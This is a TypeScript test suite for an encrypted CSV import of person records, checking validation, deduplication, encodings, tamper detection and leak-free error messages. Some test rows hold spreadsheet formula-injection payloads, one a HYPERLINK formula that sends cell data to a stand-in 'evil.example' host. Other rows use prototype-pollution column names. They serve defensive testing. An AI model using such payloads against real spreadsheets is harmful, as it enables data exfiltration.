import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFileBlobStore, type BlobStore } from '../../storage/blob-store.js';
import { parseKeyring, type Keyring } from '../../storage/crypto.js';
import {
  PersonsImportError,
  PersonsIntegrityError,
  importPersonsCsv,
  readPersons,
  type Person,
  type PersonsDeps,
} from '../../storage/persons.js';

let dir: string;
let store: BlobStore;
const keyring: Keyring = parseKeyring(`k1:${randomBytes(32).toString('base64')}`);
let deps: PersonsDeps;
let seq = 0;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'persons-'));
  store = createFileBlobStore(dir);
  deps = { store, keyring };
});
afterAll(async () => rm(dir, { recursive: true, force: true }));

const csv = (text: string | Buffer, pieceSize = 7): Readable => {
  const buf = Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8');
  // Odd-sized pieces split multi-byte characters across chunks, as a network upload does.
  return Readable.from(Array.from({ length: Math.ceil(buf.length / pieceSize) }, (_, i) => buf.subarray(i * pieceSize, (i + 1) * pieceSize)));
};
const upload = () => `u${++seq}`;

async function all(ref: Parameters<typeof readPersons>[1], from?: number) {
  const out: { index: number; person: Person }[] = [];
  for await (const r of readPersons(deps, ref, from === undefined ? {} : { from })) out.push(r);
  return out;
}

describe('importPersonsCsv', () => {
  it('accepts good rows, defaults language to ja, and reads them back in order', async () => {
    const text = [
      'name,email,postal_address,language',
      '山田 太郎,Taro.Yamada@Example.co.jp,,ja',
      'Jane Doe,jane@example.com,"1 Main St, Springfield",en',
      '佐藤 花子,,東京都千代田区丸の内1-1-1,',
      '"O\'Brien, ""Pat""",pat@example.ie,,EN',
    ].join('\r\n');
    const { ref, errors, errorCount } = await importPersonsCsv(csv(text), deps, { caseId: 'case-1', uploadId: upload() });
    expect(errors).toEqual([]);
    expect(errorCount).toBe(0);
    expect(ref).toMatchObject({ total: 4, accepted: 4, duplicates: 0, rejected: 0, withEmail: 3, withoutEmail: 1, byLanguage: { ja: 2, en: 2 } });
    expect(ref.key).toBe(`cases/case-1/persons/${ref.uploadId}.ndjson.enc`);
    const rows = await all(ref);
    expect(rows.map((r) => r.index)).toEqual([0, 1, 2, 3]);
    expect(rows[0]!.person).toMatchObject({ name: '山田 太郎', email: 'taro.yamada@example.co.jp', language: 'ja' });
    expect(rows[0]!.person.postalAddress).toBeUndefined();
    expect(rows[1]!.person).toMatchObject({ postalAddress: '1 Main St, Springfield', language: 'en' });
    expect(rows[2]!.person).toMatchObject({ name: '佐藤 花子', postalAddress: '東京都千代田区丸の内1-1-1', language: 'ja' });
    expect(rows[2]!.person.email).toBeUndefined();
    expect(rows[3]!.person.name).toBe('O\'Brien, "Pat"');
    expect(new Set(rows.map((r) => r.person.personId)).size).toBe(4);
    for (const r of rows) expect(r.person.personId).toMatch(/^p_[A-Za-z0-9_-]{22}$/);
  });

  it('accepts postalAddress, Japanese headings and a BOM', async () => {
    const a = await importPersonsCsv(csv('\uFEFFname,postalAddress\n田中,大阪府大阪市\n'), deps, { caseId: 'c', uploadId: upload() });
    expect(a.ref.accepted).toBe(1);
    const b = await importPersonsCsv(csv('\uFEFF氏名,メールアドレス,住所,言語\n鈴木,suzuki@example.jp,,ja\n'), deps, { caseId: 'c', uploadId: upload() });
    expect(b.ref.accepted).toBe(1);
    expect((await all(b.ref))[0]!.person).toMatchObject({ name: '鈴木', email: 'suzuki@example.jp' });
  });

  it('reports each bad-row class with its spreadsheet row number, never the value', async () => {
    const long = 'x'.repeat(201);
    const text = [
      'name,email,postal_address,language', // row 1
      ',a@example.com,,ja', // 2 name required
      `${long},b@example.com,,ja`, // 3 name too long
      'Bad Mail,not-an-email,,ja', // 4 e-mail syntax
      'No Contact,,,ja', // 5 neither e-mail nor address
      'Lang,c@example.com,,fr', // 6 language
      'Wide,d@example.com,,ja,surprise', // 7 too many columns
      `Long,e@example.com,${'住'.repeat(1400)},ja`, // 8 line too long (4200+ bytes)
      'Good,ok@example.com,,ja', // 9
      'Trailing,t@example.com,,ja,,', // 10 empty extra cells are tolerated
    ].join('\n');
    const { ref, errors, errorCount } = await importPersonsCsv(csv(text), deps, { caseId: 'c', uploadId: upload() });
    expect(errors).toEqual([
      { row: 2, column: 'name', reason: 'required' },
      { row: 3, column: 'name', reason: 'too_long' },
      { row: 4, column: 'email', reason: 'invalid_email' },
      { row: 5, reason: 'email_or_address_required' },
      { row: 6, column: 'language', reason: 'invalid_language' },
      { row: 7, reason: 'too_many_columns' },
      { row: 8, reason: 'line_too_long' },
      { row: 8, column: 'postal_address', reason: 'too_long' },
    ]);
    expect(errorCount).toBe(8);
    expect(ref).toMatchObject({ total: 9, accepted: 2, rejected: 7 });
    expect(JSON.stringify(errors)).not.toMatch(/not-an-email|surprise|fr"/);
  });

  it('reads LF, CRLF, CR and mixed line endings alike, also split across chunks, and keeps line breaks in quoted cells', async () => {
    const rows = ['Ａ,a@example.com,,en', 'B,b@example.com,"1-2\r\n3",ja', 'C,c@example.com,,en'];
    const header = 'name,email,postal_address,language';
    for (const [label, text] of [
      ['LF', `${header}\n${rows.join('\n')}\n`],
      ['CRLF', `${header}\r\n${rows.join('\r\n')}\r\n`],
      ['CR', `${header}\r${rows.join('\r')}`],
      ['CRLF then LF', `${header}\r\n${rows[0]}\n${rows[1]}\r\n${rows[2]}`],
      ['LF then CR', `${header}\n${rows[0]}\r${rows[1]}\n\n${rows[2]}\r\n`],
    ] as const) {
      for (const piece of [1, 7, 4096]) {
        const { ref, errors } = await importPersonsCsv(csv(`\uFEFF${text}`, piece), deps, { caseId: 'c-eol', uploadId: upload() });
        expect({ label, piece, errors }).toEqual({ label, piece, errors: [] });
        const people = (await all(ref)).map((r) => r.person);
        expect(people.map((p) => [p.name, p.language])).toEqual([
          ['Ａ', 'en'],
          ['B', 'ja'],
          ['C', 'en'],
        ]);
        // Addresses are collapsed to one line as before; the quoted CRLF did not split the row.
        expect(people[1]!.postalAddress).toBe('1-2 3');
      }
    }
  });

  it('stores formula-looking values as given (neutralised on CSV output, not on import)', async () => {
    const text = [
      'name,email,postal_address',
      '"=HYPERLINK(""http://evil.example/?""&A1,""x"")",f1@example.com,',
      '+81 Taro,f2@example.com,',
      '-Hanako-,f3@example.com,',
      '@SUM(1+1),f4@example.com,',
      '"\tTab",f5@example.com,',
      'Plain,,=1+2',
    ].join('\n');
    const { ref, errors } = await importPersonsCsv(csv(text), deps, { caseId: 'c', uploadId: upload() });
    expect(errors).toEqual([]);
    const people = (await all(ref)).map((r) => r.person);
    expect(people.map((p) => p.name)).toEqual(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+81 Taro', '-Hanako-', '@SUM(1+1)', 'Tab', 'Plain']);
    expect(people[5]!.postalAddress).toBe('=1+2');
  });

  it('treats headings named like Object.prototype members as unknown columns', async () => {
    const { ref, errors } = await importPersonsCsv(csv('constructor,name,email,toString,__proto__\nx,A,a@example.com,y,z\n'), deps, {
      caseId: 'c',
      uploadId: upload(),
    });
    expect(errors).toEqual([]);
    expect((await all(ref)).map((r) => r.person)).toMatchObject([{ name: 'A', email: 'a@example.com' }]);
  });

  it('accepts legacy Japanese carrier addresses and full-width e-mail', async () => {
    const { ref, errors } = await importPersonsCsv(
      csv('name,email\nA,taro..yamada.@docomo.ne.jp\nB,ｈａｎａｋｏ＠ｅｘａｍｐｌｅ．ｊｐ\n'),
      deps,
      { caseId: 'c', uploadId: upload() },
    );
    expect(errors).toEqual([]);
    expect((await all(ref)).map((r) => r.person.email)).toEqual(['taro..yamada.@docomo.ne.jp', 'hanako@example.jp']);
  });

  it('caps the error list at maxErrors but counts them all', async () => {
    const text = ['name,email', ...Array.from({ length: 50 }, () => ',x@example.com')].join('\n');
    const { errors, errorCount, ref } = await importPersonsCsv(csv(text, 4096), deps, { caseId: 'c', uploadId: upload(), maxErrors: 10 });
    expect(errors).toHaveLength(10);
    expect(errors[9]).toEqual({ row: 11, column: 'name', reason: 'required' });
    expect(errorCount).toBe(50);
    expect(ref.rejected).toBe(50);
  });

  it('de-duplicates by normalised e-mail and by name + address across width and spacing variants (名寄せ)', async () => {
    const text = [
      'name,email,postal_address,language',
      '山田太郎,taro@example.jp,,ja',
      '山田 太郎,  TARO@EXAMPLE.JP ,,en', // same e-mail, case and spaces
      'ﾔﾏﾀﾞﾀﾛｳ,ｔａｒｏ＠ｅｘａｍｐｌｅ．ｊｐ,,ja', // full-width e-mail, half-width kana name
      '佐藤花子,,東京都港区芝公園４－２－８,ja',
      '佐藤花子,,東京都港区芝公園4-2-8,ja', // half-width digits
      '佐藤 花子 ,,　東京都港区　芝公園4−2‐8 ,ja', // spaces (full-width too) and dash look-alikes
      'ｻﾄｳ ﾊﾅｺ,,東京都港区芝公園4-2-8,ja', // different name: kept
      '佐藤花子,hanako@example.jp,東京都港区芝公園4-2-8,ja', // has e-mail: identified by it, kept
    ].join('\n');
    const { ref } = await importPersonsCsv(csv(text), deps, { caseId: 'c', uploadId: upload() });
    expect(ref).toMatchObject({ total: 8, accepted: 4, duplicates: 4, rejected: 0, withEmail: 2, withoutEmail: 2 });
    const people = (await all(ref)).map((r) => r.person);
    expect(people[0]).toMatchObject({ name: '山田太郎', language: 'ja' }); // first kept
    expect(people[1]).toMatchObject({ postalAddress: '東京都港区芝公園４－２－８' });
  });

  it('gives the same person the same id and the same upload the same checksum', async () => {
    const text = 'name,email,postal_address\nA,a@example.com,\nB,,Somewhere 1\n';
    const one = await importPersonsCsv(csv(text), deps, { caseId: 'c-stable', uploadId: upload() });
    const two = await importPersonsCsv(csv(text, 3), deps, { caseId: 'c-stable', uploadId: upload() });
    const other = await importPersonsCsv(csv(text), deps, { caseId: 'c-other', uploadId: upload() });
    expect(two.ref.checksum).toBe(one.ref.checksum);
    const ids = async (r: typeof one) => (await all(r.ref)).map((x) => x.person.personId);
    expect(await ids(two)).toEqual(await ids(one));
    expect(await ids(other)).not.toEqual(await ids(one));
    expect(other.ref.checksum).not.toBe(one.ref.checksum);
  });

  it('keeps plaintext out of the stored blob file', async () => {
    const { ref } = await importPersonsCsv(
      csv('name,email,postal_address\nZebulon Quixote,zebulon@example.org,\n山田太郎,,北海道札幌市\n'),
      deps,
      { caseId: 'c', uploadId: upload() },
    );
    const raw = await readFile(path.join(dir, ref.key));
    for (const needle of ['Zebulon', 'zebulon@example.org', '山田太郎', '北海道', 'personId']) {
      expect(raw.includes(Buffer.from(needle, 'utf8'))).toBe(false);
    }
  });

  it('resumes from an index and still verifies the checksum at the end', async () => {
    const text = ['name,email', ...Array.from({ length: 5000 }, (_, i) => `P${i},p${i}@example.com`)].join('\n');
    const { ref } = await importPersonsCsv(csv(text, 1000), deps, { caseId: 'c', uploadId: upload() });
    const rest = await all(ref, 4321);
    expect(rest).toHaveLength(5000 - 4321);
    expect(rest[0]).toMatchObject({ index: 4321, person: { name: 'P4321' } });
    expect(rest.at(-1)!.index).toBe(4999);
    expect(await all(ref, 5000)).toEqual([]);
  });

  it('throws on a tampered list: swapped object, wrong checksum, truncated file', async () => {
    const a = await importPersonsCsv(csv('name,email\nA,a@example.com\n'), deps, { caseId: 'c', uploadId: upload() });
    const b = await importPersonsCsv(csv('name,email\nB,b@example.com\n'), deps, { caseId: 'c', uploadId: upload() });
    await expect(all({ ...a.ref, checksum: b.ref.checksum })).rejects.toBeInstanceOf(PersonsIntegrityError);
    await expect(all({ ...a.ref, accepted: 2 })).rejects.toBeInstanceOf(PersonsIntegrityError);
    // Copying b's sealed bytes over a's name fails: the storage key is bound into every chunk.
    await writeFile(path.join(dir, a.ref.key), await readFile(path.join(dir, b.ref.key)));
    await expect(all(a.ref)).rejects.toMatchObject({ code: 'auth_failed' });
    const raw = await readFile(path.join(dir, b.ref.key));
    await writeFile(path.join(dir, b.ref.key), raw.subarray(0, raw.length - 3));
    await expect(all(b.ref)).rejects.toMatchObject({ code: 'truncated' });
  });

  describe('refusals store nothing', () => {
    const refused = async (input: Readable, code: string, opts: { maxRows?: number; maxLineBytes?: number } = {}) => {
      const uploadId = upload();
      const err = await importPersonsCsv(input, deps, { caseId: 'refused', uploadId, ...opts }).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(PersonsImportError);
      expect((err as PersonsImportError).code).toBe(code);
      expect(await store.exists(`cases/refused/persons/${uploadId}.ndjson.enc`)).toBe(false);
      return err as PersonsImportError;
    };

    it('too many rows', async () => {
      const text = ['name,email', ...Array.from({ length: 101 }, (_, i) => `P${i},p${i}@example.com`)].join('\n');
      const err = await refused(csv(text, 100), 'too_many_rows', { maxRows: 100 });
      expect(err.details.limit).toBe(100);
    });

    it('missing columns', async () => {
      await refused(csv('email,postal_address\na@example.com,x\n'), 'missing_columns');
      await refused(csv('name,language\nA,ja\n'), 'missing_columns');
    });

    it('not CSV: empty, Shift_JIS, broken quoting, binary', async () => {
      await refused(csv(''), 'not_csv');
      // 「山田」 in Shift_JIS.
      await refused(csv(Buffer.concat([Buffer.from('name,email\n'), Buffer.from([0x8e, 0x52, 0x93, 0x63]), Buffer.from(',a@example.com\n')])), 'not_csv');
      const err = await refused(csv('name,email\n"山田 太郎" x,a@example.com\n'), 'not_csv');
      expect(err.message).not.toContain('山田');
      await refused(csv(randomBytes(4096)), 'not_csv');
    });

    // Each way the file's text can fail, with the rule and place the API hands on (422 persons_rejected: reason = code,
    // then rule, row, line, column). `secret` is the cell text that must appear in neither message nor details: csv-parse's
    // own errors quote it (INVALID_OPENING_QUOTE carries the field so far, the message repeats it).
    const sjis = (s: string) => Buffer.from(s, 'latin1');
    const fileCases: {
      title: string;
      input: string | Buffer;
      code?: string;
      want: { rule: string; row?: number; line?: number; column?: string };
      secret?: string;
    }[] = [
      {
        title: 'a stray quote inside a name (INVALID_OPENING_QUOTE, no CSV_ prefix)',
        input: 'name,email\nA,a@example.com\n小林"秘密子",k@example.com\n',
        want: { rule: 'invalid_quote', row: 3, line: 3, column: 'name' },
        secret: '小林',
      },
      {
        title: 'an unquoted formula with quotes',
        input: 'name,email\n=HYPERLINK("http://evil.example/?"&A1;"x"),h@example.com\n',
        want: { rule: 'invalid_quote', row: 2, line: 2, column: 'name' },
        secret: 'HYPERLINK',
      },
      {
        title: 'a quote in the e-mail column',
        input: 'name,email\nA,himitsu"x@example.com\n',
        want: { rule: 'invalid_quote', row: 2, column: 'email' },
        secret: 'himitsu',
      },
      {
        title: 'text after a closing quote',
        input: 'name,email\n"山田 太郎" 秘密,a@example.com\n',
        want: { rule: 'text_after_quote', row: 2, column: 'name' },
        secret: '山田',
      },
      {
        title: 'a quote never closed (row is where it opens)',
        input: 'name,email\nA,a@example.com\n"秘密 次郎,b@example.com\nC,c@example.com\n',
        want: { rule: 'unclosed_quote', row: 3, column: 'name' },
        secret: '秘密',
      },
      {
        title: 'rows counted as records when a quoted address holds line breaks',
        input: 'name,postal_address\nA,"1-2-3\r\n秘匿町\r\nビル"\nB,x"秘匿y\n',
        want: { rule: 'invalid_quote', row: 3, column: 'postal_address' },
        secret: '秘匿',
      },
      {
        title: 'Shift_JIS in a data row',
        input: Buffer.concat([Buffer.from('name,email\nA,a@example.com\n'), sjis('\x8e\x52\x93\x63'), Buffer.from(',b@example.com\n')]),
        want: { rule: 'encoding', row: 3, column: 'name' },
      },
      {
        title: 'Shift_JIS in the header',
        input: Buffer.concat([sjis('\x8e\x81\x96\xbc'), Buffer.from(',email\n')]),
        want: { rule: 'encoding', row: 1 },
      },
      {
        title: 'UTF-16LE with a byte order mark',
        input: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('name,email\n秘密,a@example.com\n', 'utf16le')]),
        want: { rule: 'encoding', row: 1, line: 1 },
      },
      {
        title: 'UTF-16BE with a byte order mark',
        input: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('name,email\n', 'utf16le').swap16()]),
        want: { rule: 'encoding', row: 1 },
      },
      {
        title: 'UTF-16LE without a byte order mark (NUL bytes)',
        input: Buffer.from('name,email\n秘密,a@example.com\n', 'utf16le'),
        want: { rule: 'encoding', row: 1 },
      },
      {
        title: 'a NUL character in a name',
        input: 'name,email\n秘密\u0000子,a@example.com\n',
        want: { rule: 'encoding', row: 2, column: 'name' },
        secret: '秘密',
      },
      { title: 'only a byte order mark', input: '\uFEFF', want: { rule: 'empty' } },
      { title: 'a column named twice', input: 'name,氏名,email\n', want: { rule: 'duplicate_column', row: 1 } },
      {
        title: 'a record far over the line limit',
        input: `name,email\nA,a@example.com\n${'秘'.repeat(40_000)},b@example.com\n`,
        code: 'line_too_long',
        want: { rule: 'line_too_long', row: 3, line: 3, column: 'name' },
        secret: '秘秘',
      },
    ];
    for (const c of fileCases) {
      it(`file rule: ${c.title}`, async () => {
        const err = await refused(csv(c.input, 5), c.code ?? 'not_csv');
        expect(err.details).toMatchObject(c.want);
        if (c.want.line === undefined && c.want.rule === 'unclosed_quote') expect(err.details.line).toBeUndefined();
        if (c.want.column === undefined) expect(err.details.column).toBeUndefined();
        expect(err.cause).toBeUndefined();
        if (c.secret) {
          expect(err.message).not.toContain(c.secret);
          expect(JSON.stringify(err.details)).not.toContain(c.secret);
          expect(JSON.stringify(err)).not.toContain(c.secret);
        }
      });
    }

    it('a line far beyond the limit', async () => {
      const err = await refused(csv(`name,email\n${'a'.repeat(100_000)},a@example.com\n`, 8192), 'line_too_long');
      expect(err.details).toMatchObject({ line: 2, row: 2, rule: 'line_too_long', limit: 4096 });
    });

    it('an aborted upload keeps its own error', async () => {
      const uploadId = upload();
      const aborted = Readable.from(
        (function* () {
          yield Buffer.from('name,email\nA,a@example.com\n');
          throw Object.assign(new Error('aborted'), { code: 'ECONNRESET' });
        })(),
      );
      await expect(importPersonsCsv(aborted, deps, { caseId: 'refused', uploadId })).rejects.toMatchObject({ code: 'ECONNRESET' });
      expect(await store.exists(`cases/refused/persons/${uploadId}.ndjson.enc`)).toBe(false);
    });

    it('leaves no temporary files behind', async () => {
      const files = await readdir(path.join(dir, 'cases/refused/persons')).catch(() => []);
      expect(files).toEqual([]);
    });
  });
});
